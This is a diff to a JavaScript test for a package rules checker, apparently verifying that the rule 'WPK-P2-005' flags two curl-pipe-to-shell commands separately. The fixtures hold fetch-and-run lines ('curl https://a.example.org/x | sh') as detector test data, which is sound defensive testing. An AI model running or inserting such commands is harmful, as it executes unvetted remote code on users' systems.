@@ -55,7 +55,8 @@ describe('judge', () => {
     const { violations } = runRules(
       packageWith([shell('curl https://a.example.org/x | sh'), shell('curl https://b.example.org/x | sh')]),
     )
-    expect(new Set(violations.map(({ fingerprint }) => fingerprint)).size).to.equal(2)
+    const downloads = violations.filter(({ rule_id }) => rule_id === 'WPK-P2-005')
+    expect(new Set(downloads.map(({ fingerprint }) => fingerprint)).size).to.equal(2)
   })
 })
 
